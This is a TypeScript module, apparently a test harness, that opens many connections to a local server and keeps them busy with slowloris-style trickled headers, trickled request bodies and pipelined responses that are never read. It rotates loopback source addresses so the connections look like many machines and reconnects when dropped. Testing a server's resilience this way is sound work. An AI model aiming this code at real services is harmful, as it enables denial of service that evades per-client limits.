import { connect, type Socket } from 'node:net';

/** A way to keep a server waiting. */
export type Attack = 'headers that trickle' | 'bodies that trickle' | 'answers nobody reads';

export interface Attackers {
  /** How many connections stand now. */
  held(): number;
  /** How many the server has ended. */
  ended(): number;
  stop(): void;
}

const trickleMs = 1_000;
/** Of 127.0.0.0/8, so that the connections come from so many machines as far as the server can tell. */
const addresses = 50;

/** Opens so many connections and keeps them busy with next to nothing; who is thrown out comes again. */
export function attack(port: number, kind: Attack, connections: number): Attackers {
  const sockets = new Set<Socket>();
  let ended = 0;
  let isOver = false;
  const open = (number: number) => {
    if (isOver) return;
    const socket = connect({ host: '127.0.0.1', port, localAddress: `127.0.0.${2 + (number % addresses)}` });
    sockets.add(socket);
    socket.on('error', () => undefined);
    socket.on('connect', () => begin(socket, kind));
    socket.on('close', () => {
      sockets.delete(socket);
      if (isOver) return;
      ended += 1;
      setTimeout(open, trickleMs, number).unref();
    });
  };
  for (let number = 0; number < connections; number++) open(number);
  const timer = setInterval(() => {
    if (kind !== 'answers nobody reads') for (const socket of sockets) socket.write('x');
  }, trickleMs);
  return {
    held: () => sockets.size,
    ended: () => ended,
    stop() {
      isOver = true;
      clearInterval(timer);
      for (const socket of sockets) socket.destroy();
    },
  };
}

function begin(socket: Socket, kind: Attack): void {
  if (kind === 'headers that trickle') {
    socket.resume();
    socket.write('GET / HTTP/1.1\r\nhost: 127.0.0.1\r\nx-long: ');
  } else if (kind === 'bodies that trickle') {
    socket.resume();
    socket.write(
      'POST /api/chat-stream HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\ncontent-length: 8000\r\n\r\n{"text":"',
    );
  } else {
    socket.pause();
    socket.write('GET /api/store HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n'.repeat(50));
  }
}
